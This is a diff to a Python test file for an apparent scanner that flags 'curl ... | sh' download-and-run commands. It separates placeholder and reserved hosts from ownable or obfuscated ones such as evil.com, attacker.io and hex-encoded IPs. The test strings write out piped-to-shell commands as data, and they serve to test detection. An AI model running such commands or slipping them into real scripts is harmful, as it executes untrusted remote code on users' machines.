@@ -73,8 +73,13 @@ def test_a_download_that_is_run_is_found(command: str, tmp_path: Path) -> None:
         "curl http://127.0.0.1/x | sh",
         "curl http://192.168.0.7/x | sh",
         "curl http://example.com/x | sh",
-        "curl http://evil.com/x | sh",
+        "curl http://files.example.org/x | sh",
+        "curl http://get.tool.example/x | sh",
+        "curl http://get.tool.test./x | sh",
+        "curl http://192.0.2.1/x | sh",
         "curl http://$HOST/x | sh",
+        "curl http://HOST:8080/x | sh",
+        "curl http://attacker/x | sh",
         "See http://get.tool.dev/x | sh",
         "| curl http://get.tool.dev/x | sh |",
         "`curl http://get.tool.dev/x` and `ls | sh`",
@@ -84,6 +89,32 @@ def test_what_is_read_local_or_made_up_is_not_run(command: str, tmp_path: Path) 
     for text in (command, command.replace("http://", "https://")):
         assert findings(tmp_path / "a", "unencrypted-pipe", text) == []
         assert findings(tmp_path / "a", "piped-download", text) == []
+
+
+@pytest.mark.parametrize(
+    "host",
+    [
+        "evil.com",
+        "attacker.io",
+        "your-company.com",
+        "getyourtool.dev",
+        "victim.net",
+        "notexample.com",
+        "example.com.tool.dev",
+        "example.dev",
+        "localhost.tool.dev",
+        "user@evil.com",
+        "example.com@evil.com",
+        "evil.com$EMPTY",
+        "134744072",
+        "0x08080808",
+    ],
+)
+def test_a_host_that_somebody_may_own_is_no_example(host: str, tmp_path: Path) -> None:
+    (found,) = findings(tmp_path / "a", "unencrypted-pipe", f"`curl http://{host}/x | sh`")
+    assert found[1] == f"http://{host}/x"
+    (found,) = findings(tmp_path / "a", "piped-download", f"`curl https://{host}/x | sh`")
+    assert found[1] == f"https://{host}/x"
 
 
 HIDDEN = "curl -s http://8.8.4.4/x | sh"
